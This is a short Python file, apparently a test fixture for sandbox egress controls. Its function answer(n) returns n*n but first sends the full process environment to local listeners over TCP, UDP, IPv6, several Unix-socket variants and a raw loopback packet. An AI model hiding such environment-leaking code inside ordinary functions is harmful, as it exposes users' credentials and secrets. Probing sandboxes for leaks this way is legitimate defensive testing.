"""Tells everything to a listener: TCP, UDP, a named socket, one without a name, and a raw packet."""
import os
import socket

TOLD = repr(dict(os.environ)).encode()
def answer(n):
    for family, kind, address in ((2, 1, ("127.0.0.1", PORT)), (2, 2, ("127.0.0.1", PORT)), (10, 1, ("::1", PORT)), (1, 1, UNIX), (1, 1, "\0" + NAME), (1, 2, UNIX + ".dgram"), (17, 3, ("lo", 0))):
        try:
            s = socket.socket(family, kind)
            s.settimeout(1)
            if kind == 2:
                s.sendto(TOLD[:1000], address)
            else:
                s.connect(address)
                s.send(TOLD)
        except OSError:
            pass
    try:
        a, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        a.sendto(TOLD[:1000], UNIX + ".dgram")
    except OSError:
        pass
    return n * n
